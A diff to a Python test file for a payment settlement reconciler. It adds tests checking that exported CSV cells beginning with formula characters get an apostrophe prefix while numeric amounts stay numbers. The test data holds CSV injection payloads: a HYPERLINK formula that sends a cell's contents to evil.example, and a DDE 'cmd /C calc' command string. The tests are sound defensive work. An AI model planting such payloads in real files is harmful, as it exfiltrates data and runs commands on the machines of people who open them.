@@ -128,3 +128,33 @@ def test_ten_thousand_lines_reconcile_in_the_same_queries_per_page(razorpay_api)
     per_page = (ten_pages - one_page) / 9
     assert per_page == int(per_page) and per_page <= 8
     assert SettlementLine.objects.filter(flag="unmatched").count() == 11_000
+
+
+def test_text_a_provider_sent_is_never_a_live_formula_and_amounts_stay_numbers(razorpay_api):
+    """A UTR and an adjustment id that Razorpay (or anyone who can make one) wrote as
+    formulas: the CSV cells begin with an apostrophe; a debit stays a plain number."""
+    paid = PaymentFactory(state="paid")
+    formula_id = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    lines = [
+        payment_line(paid),
+        razorpay.recon_line(formula_id, "adjustment", 100, debit=100),
+    ]
+    entity = razorpay.settle_at_razorpay(lines, day="2026-10-15")
+    entity["utr"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    for line in lines:
+        line["settlement_utr"] = entity["utr"]
+    settlements_reconcile(days=[date(2026, 10, 15)])
+    rows = [row for row in report("2026-10")[1:] if row[0]]
+    assert {row[2] for row in rows} == {"'" + entity["utr"]}
+    (adjustment,) = [row for row in rows if row[3] == "adjustment"]
+    assert adjustment[4] == "'" + formula_id
+    assert adjustment[6:] == ["-1.00", "0.00", "0.00", "-1.00"]  # numbers, as written
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_is_neutralised_and_numbers_are_not(start):
+    from config.spreadsheets import safe_cell
+
+    assert safe_cell(f"{start}cmd") == f"'{start}cmd"
+    assert safe_cell("-12.50") == "-12.50" and safe_cell(Decimal("-3.00")) == Decimal("-3.00")
+    assert safe_cell("UTR123") == "UTR123"
